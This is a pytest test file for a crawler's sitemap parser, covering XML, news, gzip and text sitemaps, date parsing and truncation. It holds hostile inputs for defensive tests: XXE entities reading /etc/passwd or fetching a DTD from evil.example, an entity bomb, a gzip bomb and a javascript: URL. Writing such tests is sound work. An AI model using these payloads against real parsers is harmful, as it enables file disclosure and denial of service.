"""Sitemaps of every kind give their entries, and hostile ones a named quality."""

import gzip
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.jsonform import reading_to_json
from core.records import PageKind, Quality
from crawler.sitemaps import MAX_ENTRIES, modified
from tests.crawler.sites import BASE, LISTING_URL, SITE, read_body

URL = f"{BASE}/sitemap.xml"
XML = b"application/xml"


def read_map(body, *, url=URL, expected=PageKind.SITEMAP, content_type=XML):
    """What is read in a sitemap, given as text or bytes."""
    body = body.encode() if isinstance(body, str) else body
    return read_body(body, url, expected=expected, content_type=content_type)


def urlset(inner, root='urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'):
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<{root}>{inner}</{root.split()[0]}>'


def url(path, more=""):
    return f"<url><loc>{BASE}{path}</loc>{more}</url>"


def paths(reading):
    return [entry.url.removeprefix(BASE) for entry in reading.sitemap]


def test_a_urlset_gives_its_pages_in_order():
    """URL and `lastmod`; priority and frequency are nobody's business."""
    reading = read_map(urlset(
        url("/tin/1", "<lastmod>2023-05-16T15:20:00+07:00</lastmod><priority>0.5</priority>")
        + url("/tin/2", "<changefreq>daily</changefreq>")
    ))  # fmt: skip
    assert (reading.kind, reading.quality) == (PageKind.SITEMAP, Quality.OK)
    assert paths(reading) == ["/tin/1", "/tin/2"]
    assert reading.sitemap[0].modified_at == datetime(2023, 5, 16, 8, 20, tzinfo=UTC)
    assert reading.sitemap[1].modified_at is None
    assert not any(entry.is_sitemap for entry in reading.sitemap)
    assert reading.refusals == () == reading.links.articles


def test_an_index_gives_further_sitemaps():
    """On the portal's hosts alone; itself is none."""
    inner = "".join(
        f"<sitemap><loc>{where}</loc><lastmod>2023-05-16</lastmod></sitemap>"
        for where in (f"{BASE}/a.xml.gz", "https://evil.example/b.xml", URL)
    )
    reading = read_map(urlset(inner, "sitemapindex"))
    assert [(entry.url, entry.is_sitemap) for entry in reading.sitemap] == [
        (f"{BASE}/a.xml.gz", True)
    ]
    assert [(each.field, each.reason) for each in reading.refusals] == [("sitemap", "another host")]


def test_a_news_sitemap_gives_titles_and_when():
    """`publication_date` stands in for a missing `lastmod`; entities are undone once."""
    news = (
        "<news:news><news:publication><news:name>Báo</news:name></news:publication>"
        "<news:publication_date>2023-05-16T15:20+07:00</news:publication_date>"
        "<news:title>Đảng ủy &amp; nhân dân &amp;amp; \u0000</news:title></news:news>"
    ).replace("\0", "")
    reading = read_map(urlset(url("/tin/1", news), "urlset xmlns:news='x'"))
    (entry,) = reading.sitemap
    assert entry.title == "Đảng ủy & nhân dân &amp;"
    assert entry.modified_at == datetime(2023, 5, 16, 8, 20, tzinfo=UTC)


def test_images_videos_and_alternates_are_passed_over():
    """`image:loc` is no page, and a video's title is no news title."""
    more = (
        f"<image:image><image:loc>{BASE}/a.jpg</image:loc><image:title>T</image:title>"
        "</image:image><video:video><video:title>V</video:title></video:video>"
        f'<xhtml:link rel="alternate" hreflang="en" href="{BASE}/en/1"/>'
    )
    reading = read_map(urlset(url("/tin/1", more)))
    assert [(entry.url, entry.title) for entry in reading.sitemap] == [(f"{BASE}/tin/1", None)]
    inner = f"<url><image:image><image:loc>{BASE}/a.jpg</image:loc></image:image></url>"
    assert read_map(urlset(inner)).sitemap == ()


@pytest.mark.parametrize("prefix", ["", "sm:", "ns0:", "s-1.x:"])
def test_any_namespace_or_none_will_do(prefix):
    """A prefix is a name like any other."""
    inner = f"<{prefix}url>\n <{prefix}loc>\n {BASE}/tin/1 \n</{prefix}loc></{prefix}url>"
    assert paths(read_map(f"<{prefix}urlset>{inner}</{prefix}urlset>")) == ["/tin/1"]


@pytest.mark.parametrize(
    "written",
    [
        "/x?a=1&amp;copy=2",
        "/x?a=1&copy=2",
        "/x?a=1&#38;copy=2",
        "/x?a=1&#x26;copy=2",
        "<![CDATA[{}/x?a=1&copy=2]]>",
        "<!-- <loc>no</loc> -->/x?a=1&copy=2",
        "/x?copy=2&a=1&utm_source=rss#top",
    ],
)
def test_a_url_is_the_same_however_it_is_escaped(written):
    """Bare ampersands, CDATA, comments, order of parameters."""
    loc = written.replace("{}", BASE) if "{}" in written else written
    reading = read_map(urlset(f"<url><loc>{loc}</loc></url>"))
    assert paths(reading) == ["/x?a=1&copy=2"]


def test_each_url_stands_once_and_in_scope():
    """Twins, other hosts, logins, scripts, credentials and traps stay out, counted by reason."""
    hostile = [
        "https://evil.example/1", "https://evil.example/2", "javascript:alert(1)",
        f"{BASE}/dang-nhap", "http://u:p@songmay.example.vn/x", "", "http://[::",
        BASE + "/a" * 30,
    ]  # fmt: skip
    inner = url("/tin/1") + url("/tin/1?utm_source=x")
    inner += "".join(f"<url><loc>{each}</loc></url>" for each in hostile)
    reading = read_map(urlset(inner))
    assert paths(reading) == ["/tin/1"]
    reasons = {each.reason for each in reading.refusals}
    assert {"another host (2 of them)", "login", "trap: repeated path segments"} <= reasons


@pytest.mark.parametrize("mark", [b"\xef\xbb\xbf", b"", b"\n\n  "])
def test_what_stands_before_the_prolog_does_not_matter(mark):
    """A byte order mark, empty lines."""
    assert paths(read_map(mark + urlset(url("/tin/1")).encode())) == ["/tin/1"]


@pytest.mark.parametrize("content_type", [b"text/html", b"text/plain", None, b"image/png"])
def test_the_bytes_are_believed_first(content_type):
    """Portals call sitemaps what they like, and nobody needs to hope for one."""
    body = urlset(url("/tin/1"))
    reading = read_map(body, content_type=content_type, expected=PageKind.LISTING)
    assert (reading.kind, reading.quality) == (PageKind.SITEMAP, Quality.OK)
    assert paths(reading) == ["/tin/1"]


def test_a_wrong_charset_is_found_out():
    """UTF-8 that declares UTF-16, and UTF-16 itself."""
    body = urlset(url("/tin/1")).replace("UTF-8", "UTF-16")
    assert paths(read_map(body)) == ["/tin/1"]
    assert paths(read_map(body.encode("utf-16"))) == ["/tin/1"]
    latin = urlset(url("/tin/1", "<news:news><news:title>caf\xe9</news:title></news:news>"))
    (entry,) = read_map(latin.encode("latin-1")).sitemap
    assert entry.title == "café"


def test_a_packed_sitemap_is_unpacked():
    """`.xml.gz` by its magic, whatever its type."""
    packed = gzip.compress(urlset(url("/tin/1")).encode())
    for content_type in (b"application/x-gzip", b"text/html", None):
        reading = read_map(packed, url=f"{BASE}/sitemap.xml.gz", content_type=content_type)
        assert (reading.quality, paths(reading)) == (Quality.OK, ["/tin/1"])


def test_half_of_a_packed_sitemap_is_read_as_far_as_it_goes():
    """A stream that stops gives what it gave."""
    inner = "".join(url(f"/tin/{number * 7919 % 100_003}") for number in range(3_000))
    packed = gzip.compress(urlset(inner).encode())
    reading = read_map(packed[: len(packed) // 2])
    assert reading.quality is Quality.OK
    assert 100 < len(reading.sitemap) < 3_000
    assert "cut" in reading.refusals[-1].reason


def test_a_packed_bomb_is_too_large():
    """More than 200 times what was sent."""
    reading = read_map(gzip.compress(b"<urlset>" + b" " * 30_000_000))
    assert (reading.quality, reading.kind) == (Quality.TOO_LARGE, PageKind.SITEMAP)
    broken = read_map(b"\x1f\x8b\x08garbage")
    assert broken.quality is Quality.UNDECODABLE


def test_a_packed_file_that_nobody_took_for_a_sitemap_is_a_document():
    """An archive among the attachments."""
    packed = gzip.compress(b"some text")
    reading = read_map(packed, url=f"{BASE}/a.tar.gz", expected=PageKind.OTHER)
    assert (reading.kind, reading.quality) == (PageKind.DOCUMENT, Quality.OK)
    twice = read_map(gzip.compress(gzip.compress(urlset("").encode())))
    assert twice.quality is Quality.WRONG_PAGE


def test_a_text_sitemap_has_a_url_a_line():
    """Only where a sitemap was hoped for; other lines are passed over."""
    body = f"\ufeff{BASE}/tin/1\r\n\n{BASE}/tin/2 \n# note\nhttps://evil.example/\n"
    reading = read_map(body, content_type=b"text/plain")
    assert (reading.kind, reading.quality) == (PageKind.SITEMAP, Quality.OK)
    assert paths(reading) == ["/tin/1", "/tin/2"]
    plain = read_map(body, content_type=b"text/plain", expected=PageKind.OTHER)
    assert (plain.kind, plain.sitemap) == (PageKind.DOCUMENT, ())


def test_what_was_whole_before_the_cut_is_kept():
    """Quality stays good, a refusal says that the end is missing; half a URL is none."""
    whole = urlset(url("/tin/1") + url("/tin/22"))
    reading = read_map(whole[: whole.index("22") + 1])
    assert (reading.quality, paths(reading)) == (Quality.OK, ["/tin/1"])
    assert reading.refusals[-1].reason == "the sitemap is cut: its end is missing"
    nothing = read_map('<?xml version="1.0"?><urlset><url><loc>http://so')
    assert (nothing.quality, nothing.reason) == (
        Quality.TRUNCATED, "the sitemap is cut before its first entry",
    )  # fmt: skip


def test_what_follows_the_end_is_passed_over():
    """How long it took to make, and what a script printed last."""
    for tail in ("<!-- 0.3 s -->", "\n\n", "<br/>Notice: x", "\0"):
        reading = read_map(urlset(url("/tin/1")) + tail)
        assert (reading.quality, reading.refusals) == (Quality.OK, ())


def test_an_entry_is_in_the_record_under_fixed_names():
    """`sitemap` is a list; absent is null."""
    reading = read_map(urlset(url("/tin/1", "<lastmod>2023-05-16T15:20+07:00</lastmod>")))
    record = reading_to_json(reading, portal="x", url=URL, status=200)
    assert record["sitemap"] == [{
        "url": f"{BASE}/tin/1", "is_sitemap": False, "modified_at": "2023-05-16T08:20:00Z",
        "title": None,
    }]  # fmt: skip


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE urlset [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
        "<!doctype urlset [<!entity x 'y'>]>",
    ],
)
def test_declared_entities_are_refused(doctype):
    """Bombs and files of ours: nothing is expanded, nothing opened."""
    reading = read_map(f"{doctype}<urlset><url><loc>{BASE}/&b;&x;</loc></url></urlset>")
    assert (reading.quality, reading.sitemap) == (Quality.TOO_COMPLEX, ())
    assert "entities" in reading.reason


def test_a_document_type_alone_and_an_entity_in_text_do_no_harm():
    """An external subset is never asked for; in CDATA an entity's declaration is text."""
    title = "<news:news><news:title><![CDATA[<!ENTITY a 'b'>]]></news:title></news:news>"
    body = '<!DOCTYPE urlset SYSTEM "http://evil.example/a.dtd">' + urlset(url("/tin/1", title))
    assert paths(read_map(body)) == ["/tin/1"]


def test_past_the_50_000th_entry_the_rest_is_left_out():
    """As the protocol says; a refusal tells."""
    inner = "".join(f"<url><loc>/t/{number}</loc></url>" for number in range(MAX_ENTRIES + 5))
    reading = read_map(urlset(inner))
    assert len(reading.sitemap) == MAX_ENTRIES
    assert "50,000" in reading.refusals[-1].reason


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2023", (2022, 12, 31, 17, 0)),
        ("2023-05", (2023, 4, 30, 17, 0)),
        ("2023-05-16", (2023, 5, 15, 17, 0)),
        ("2023-5-6", (2023, 5, 5, 17, 0)),
        ("2023-05-16T15:20", (2023, 5, 16, 8, 20)),
        ("2023-05-16 15:20:30", (2023, 5, 16, 8, 20, 30)),
        ("2023-05-16T15:20:30.1234567", (2023, 5, 16, 8, 20, 30)),
        ("2023-05-16T15:20:30Z", (2023, 5, 16, 15, 20, 30)),
        ("2023-05-16t15:20:30+0700", (2023, 5, 16, 8, 20, 30)),
        ("2023-05-16T15:20:30 -03:30", (2023, 5, 16, 18, 50, 30)),
        ("2023-05-16T15:20:60Z", (2023, 5, 16, 15, 20, 59)),
    ],
)
def test_every_form_of_a_w3c_date_is_an_instant(text, expected):
    """Without an offset it is in the site's zone, seven hours ahead."""
    assert modified(text, SITE.zone) == datetime(*expected, tzinfo=UTC)


@pytest.mark.parametrize(
    "text",
    ["", "today", "2023-13-01", "2023-02-30", "0000-00-00", "16/05/2023", "2023-05-16T25:00",
     "2023-05-16T15:20+99:00", "9" * 500, "２０２３-05-16", "0001-01-01T00:00:00+14:00"],
)  # fmt: skip
def test_a_lastmod_that_makes_no_sense_is_none(text):
    """It is no more than the portal's word."""
    assert modified(text, SITE.zone) is None


def test_a_lastmod_of_tomorrow_is_none():
    """Later than the capture and a day."""
    more = "<lastmod>{}</lastmod>".format
    reading = read_map(urlset(url("/a", more("2026-05-06")) + url("/b", more("2026-05-08"))))
    assert [entry.modified_at is None for entry in reading.sitemap] == [False, True]


def test_an_error_page_in_place_of_a_sitemap_goes_the_way_of_pages():
    """HTML is HTML wherever it stands; what is neither is not there."""
    reading = read_map("<!doctype html><html><body><h1>404</h1></body></html>")
    assert reading.kind is not PageKind.SITEMAP
    other = read_map("<note>hello</note>")
    assert (other.quality, other.kind) == (Quality.WRONG_PAGE, PageKind.SITEMAP)


def test_a_sitemap_at_an_articles_url_is_a_wrong_page():
    """It must not make the article's next version."""
    reading = read_map(urlset(url("/tin/1")), expected=PageKind.ARTICLE)
    assert (reading.quality, reading.article) == (Quality.WRONG_PAGE, None)


HOSTILE = {
    "garbage": bytes(range(256)) * 4_000,
    "garbage inside": b"<urlset>" + bytes(range(256)) * 4_000,
    "nul": b"<urlset><url><loc>\0" + bytes(1_000_000),
    "nesting": b"<urlset>" + b"<url>" * 200_000,
    "prefixes": b"<urlset>" + b"<a:" * 300_000,
    "comments": b"<urlset>" + b"<!--" * 250_000,
    "cdata": b"<urlset>" + b"<![CDATA[" * 110_000,
    "instructions": b"<?" * 500_000,
    "types": b"<!DOCTYPE a " * 80_000,
    "subsets": b"<!DOCTYPE a [" * 80_000,
    "locs": b"<urlset><url>" + b"<loc " * 200_000,
    "blanks": b"</urlset" + b" " * 1_000_000,
    "one url": b"<urlset><url><loc>http://" + b"a" * 1_000_000 + b"</loc></url></urlset>",
    "surrogates": b"<urlset><url><loc>/\xed\xa0\x80&#xD800;&#0;</loc></url></urlset>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_megabytes_have_a_quality(name):
    """One megabyte of each shape; whatever comes out can be stored."""
    reading = read_map(HOSTILE[name])
    assert bool(reading.reason) == (reading.quality is not Quality.OK)
    assert not reading.reason.startswith("the rules of")
    record = str(reading_to_json(reading, portal="x", url=URL, status=200))
    assert "\0" not in record
    record.encode()


PIECES = st.sampled_from([
    "<urlset>", "</urlset>", "<sitemapindex>", "<url>", "</url>", "<loc>", "</loc>", "<a:loc>",
    BASE + "/1", "http://[::", "<lastmod>", "2023-05-16", "</lastmod>", "<![CDATA[", "]]>", "<!--",
    "-->", "<?", "?>", "&amp;", "&#0;", "&#xD800;", "&", "\0", "<!DOCTYPE", "[", "<news:news>",
    "<news:title>", "\ud800", "ế", '<?xml version="1.0" encoding="utf-16"?>',
])  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_pieces_of_a_sitemap_give_a_reading(text):
    """Every entry is in scope and once there; nothing raises."""
    reading = read_map(("<urlset>" + text).encode("utf-8", "surrogatepass"), url=LISTING_URL)
    assert not reading.reason.startswith("the rules of"), reading.reason
    assert all(entry.url.startswith(BASE + "/") for entry in reading.sitemap)
    assert len({entry.url for entry in reading.sitemap}) == len(reading.sitemap)
